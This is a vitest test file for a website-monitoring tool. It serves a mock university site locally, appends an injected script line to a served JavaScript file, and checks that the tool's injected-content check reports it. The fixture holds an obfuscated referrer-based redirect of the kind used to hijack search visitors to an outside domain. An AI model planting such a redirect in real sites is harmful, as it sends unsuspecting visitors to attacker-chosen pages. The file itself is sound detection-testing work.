import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, expect, it } from 'vitest';
import { runProgram } from '../support/run-program.ts';
import type { JsonReport } from './support.ts';

let folder: string;
beforeEach(async () => {
  folder = await mkdtemp(join(tmpdir(), 'webpatrol-test-'));
});
afterEach(() => rm(folder, { recursive: true, force: true }));

const MENU = 'window.onload = function () { document.getElementById("nav").className = "open"; };\n';
const INTRUDERS =
  'if (/baidu|sogou/i.test(document.referrer)) { location.href = String.fromCharCode(104,116,116,112,58,47,47,106,110,122,115,103,115,46,99,111,109,47); }\n';

const ARTICLES = ['/info/1001/1.htm', '/info/1001/2.htm', '/info/1002/3.htm'];
const LIST = ARTICLES.map((path) => `<a href="${path}">通知</a>`).join('');

it('finds what an intruder adds to a script file, though no page has changed', async () => {
  let script = MENU;
  let visits = 30_125;
  let unchanged: string[] = [];
  const server = createServer(({ url = '', headers }, response) => {
    const type = { 'content-type': 'text/javascript' };
    if (url === '/js/article.js') return void response.writeHead(200, type).end(script);
    // As counters do, another answer every time.
    if (url === '/js/counter.js')
      return void response.writeHead(200, type).end(`document.write("<b>${visits++}</b>");`);
    if (url !== '/' && !ARTICLES.includes(url)) return void response.writeHead(404).end();
    const etag = '"same"';
    if (headers['if-none-match'] === etag) {
      unchanged.push(url);
      return void response.writeHead(304, { etag }).end();
    }
    response.writeHead(200, { 'content-type': 'text/html; charset=utf-8', etag });
    response.end(
      `<title>教务处</title><script src="/js/counter.js"></script><p id="nav">欢迎访问教务处网站。${LIST}</p>${url === '/' ? '' : '<script src="/js/article.js"></script>'}`,
    );
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  const config = `sites: [{ id: jwc, name: 教务处, url: "http://127.0.0.1:${port}/" }]
network: { allowPrivate: ["127.0.0.0/8"], hostInterval: 0, retryAfter: 100ms }
`;
  await writeFile(join(folder, 'webpatrol.yaml'), config);
  const scan = async () => {
    unchanged = [];
    const { stdout } = await runProgram(['scan', '--format', 'json', '--only', 'injected-content'], { cwd: folder });
    return (JSON.parse(stdout) as JsonReport).findings;
  };
  try {
    expect(await scan()).toEqual([]);
    expect(await scan()).toEqual([]);
    expect(unchanged).toHaveLength(ARTICLES.length - 1);
    script = MENU + INTRUDERS;
    expect(await scan()).toMatchObject([
      {
        check: 'injected-content',
        status: 'new',
        occurrences: ARTICLES.length,
        evidence: { file: `http://127.0.0.1:${port}/js/article.js`, line: 2 },
      },
    ]);
    script = MENU;
    expect(await scan()).toEqual([]);
  } finally {
    server.close();
    server.closeAllConnections();
  }
});
